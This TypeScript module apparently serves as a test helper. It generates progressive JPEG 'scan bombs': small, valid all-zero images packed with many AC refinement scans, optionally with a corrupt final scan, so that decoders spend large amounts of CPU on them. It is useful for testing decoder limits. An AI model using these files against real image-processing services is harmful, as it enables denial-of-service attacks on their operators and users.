/**
 * Progressive JPEG "scan bombs": valid files whose every coefficient is zero, so each scan is a few
 * bytes (EOB runs), yet the decoder walks every block of the component once per scan. Successive-
 * approximation refinement scans cost the most: each block's 63 coefficients are checked per scan.
 */

export interface ScanBombOptions {
  width: number
  height: number
  /** 1 (greyscale) or 3 (three components, 4:4:4). */
  channels: 1 | 3
  /** AC scans after the single DC scan; they alternate first pass (Al=1) and refinement (Ah=1, Al=0). */
  acScans: number
  /** Make the last scan's entropy data invalid: the decoder only finds out after all the others. */
  corruptLastScan?: boolean
}

/** Writes entropy-coded bits MSB first, stuffing a 0x00 after every 0xFF byte. */
class BitWriter {
  private bytes: number[] = []
  private current = 0
  private count = 0

  write(value: number, length: number) {
    for (let bit = length - 1; bit >= 0; bit--) {
      this.current = (this.current << 1) | ((value >> bit) & 1)
      if (++this.count === 8) this.flushByte()
    }
  }

  /** Pads the last byte with 1 bits, as the standard asks. */
  finish(): Buffer {
    if (this.count > 0) this.write(0xff, 8 - this.count)
    return Buffer.from(this.bytes)
  }

  private flushByte() {
    this.bytes.push(this.current)
    if (this.current === 0xff) this.bytes.push(0x00)
    this.current = 0
    this.count = 0
  }
}

function segment(marker: number, body: Buffer): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0])
  header.writeUInt16BE(body.length + 2, 2)
  return Buffer.concat([header, body])
}

/** DC table 0: the single symbol 0 (difference category 0) as code '0'. */
const DC_TABLE = Buffer.concat([Buffer.from([0x00, 1]), Buffer.alloc(15), Buffer.from([0x00])])
/** AC table 0: EOBr symbols 0x00..0xE0, fifteen 4-bit codes (code r stands for EOBr). */
const EOB_SYMBOLS = Array.from({ length: 15 }, (_, r) => r << 4)
const AC_TABLE = Buffer.concat([Buffer.from([0x10, 0, 0, 0, 15]), Buffer.alloc(12), Buffer.from(EOB_SYMBOLS)])
/** The longest run one EOB14 symbol carries. */
const MAX_EOB_RUN = 32767

function dcScanData(blocks: number): Buffer {
  const bits = new BitWriter()
  for (let i = 0; i < blocks; i++) bits.write(0, 1)
  return bits.finish()
}

/** All `blocks` blocks end at once: EOB runs summing exactly to the block count. */
function acScanData(blocks: number, corrupt: boolean): Buffer {
  const bits = new BitWriter()
  if (corrupt) {
    // 1111 is no code of the table: "bad Huffman code", seen only when this scan is reached.
    bits.write(0b1111, 4)
    bits.write(0, 12)
    return bits.finish()
  }
  for (let left = blocks; left > 0; ) {
    const run = Math.min(left, MAX_EOB_RUN)
    const r = Math.floor(Math.log2(run))
    bits.write(r, 4)
    bits.write(run - 2 ** r, r)
    left -= run
  }
  return bits.finish()
}

function sos(componentIds: number[], ss: number, se: number, ah: number, al: number): Buffer {
  const body = [componentIds.length]
  for (const id of componentIds) body.push(id, 0x00)
  body.push(ss, se, (ah << 4) | al)
  return segment(0xda, Buffer.from(body))
}

/** A valid (or last-scan-corrupt) progressive JPEG of all-zero coefficients with 1 + acScans scans. */
export function jpegScanBomb({ width, height, channels, acScans, corruptLastScan = false }: ScanBombOptions): Buffer {
  const ids = channels === 1 ? [1] : [1, 2, 3]
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8)
  const sof = [8, height >> 8, height & 0xff, width >> 8, width & 0xff, ids.length]
  for (const id of ids) sof.push(id, 0x11, 0)
  const parts: Buffer[] = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, Buffer.concat([Buffer.from([0x00]), Buffer.alloc(64, 1)])),
    segment(0xc2, Buffer.from(sof)),
    segment(0xc4, Buffer.concat([DC_TABLE, AC_TABLE])),
    sos(ids, 0, 0, 0, 0),
    dcScanData(blocks * ids.length),
  ]
  // Per component: even scans are first passes (Ah=0, Al=1), odd ones refine them (Ah=1, Al=0).
  const passes = ids.map(() => 0)
  // All AC scans of this all-zero image carry the same bytes: build each kind once.
  const firstData = acScanData(blocks, false)
  for (let scan = 0; scan < acScans; scan++) {
    const component = scan % ids.length
    const refine = passes[component]++ % 2 === 1
    const last = scan === acScans - 1
    parts.push(sos([ids[component]], 1, 63, refine ? 1 : 0, refine ? 0 : 1))
    parts.push(last && corruptLastScan ? acScanData(blocks, true) : firstData)
  }
  parts.push(Buffer.from([0xff, 0xd9]))
  return Buffer.concat(parts)
}
